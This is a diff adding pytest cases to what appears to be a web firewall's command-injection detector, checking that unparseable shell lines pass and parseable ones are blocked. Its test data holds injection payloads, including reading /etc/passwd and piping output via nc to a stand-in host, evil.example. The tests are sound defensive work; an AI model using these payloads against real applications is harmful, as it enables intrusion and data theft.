@@ -383,3 +383,53 @@ def test_a_variable_holding_a_command_run_where_a_command_stands(rce_edge,
 @pytest.mark.parametrize("value", VARIABLE_TEXT)
 def test_assignments_and_dollars_in_text_pass(edge, value):
     assert_passes_in_note_and_query(edge, value)
+
+
+# The shell parses a whole line before it runs any of it: a line it
+# rejects runs nothing (found on a real browser's beacon, a bot sensor's
+# random token holding "...l;w>szx#)7X7..."). Each of these is a syntax
+# error to sh and bash after the command the detector would see: a ")"
+# that closes nothing, a "(" glued to a word or after a command's name,
+# ";;", an operator where a command must stand, a redirection with no
+# target.
+SHELL_REJECTS = [
+    "dcb%l;w>szx#)7x7", "a;id)", "a;;id", "x;w>;", "x; id (", "a (b;id)",
+    "q=1|;ls -la", "k9;ps^(x", "t;id &;", "z|id| |x",
+]
+# ... and what a shell runs: the same commands with what makes them parse
+# (a comment, a quote the application closes, a subshell, a function's
+# "()" and cmd.exe, which parses none of this, after "&")
+SHELL_RUNS = [
+    "x;id #)", "x;id ')'", "(a;id)", "$(a;id)", ";(id)", ";time (id)",
+    "x|id|", "x&ipconfig)", "x; cat /etc/passwd >/tmp/x 2>&1",
+    "x; uname -a 2>&1 | nc evil.example 80",
+]
+
+
+@pytest.mark.parametrize("value", SHELL_REJECTS)
+def test_a_command_on_a_line_the_shell_rejects_is_no_injection(rce_edge, value):
+    status, rid = send_note(rce_edge, value)
+    if status == 403:
+        assert "rce-command" not in rce_rules(rce_edge, rid), value
+
+
+@pytest.mark.parametrize("value", SHELL_RUNS)
+def test_a_command_on_a_line_the_shell_parses_is_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
+
+
+def test_random_tokens_hold_no_command_injection(rce_edge):
+    # a bot sensor's or a cipher's token: every printable byte but the
+    # JSON quote and backslash, seeded. Before the shell's grammar was read
+    # around the command, 13 of these 120 read as an injection; 2 still do
+    # (a ">(" whose text is a shell line, "^w" read as cmd.exe's escape)
+    import random
+    rnd = random.Random(20261203)
+    alphabet = [chr(c) for c in range(32, 127) if chr(c) not in '"\\']
+    hits = []
+    for _ in range(120):
+        token = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(1000, 3000)))
+        status, rid = send_note(rce_edge, token)
+        if status == 403 and "rce-command" in rce_rules(rce_edge, rid):
+            hits.append(token)
+    assert len(hits) <= 3, [h[:80] for h in hits]
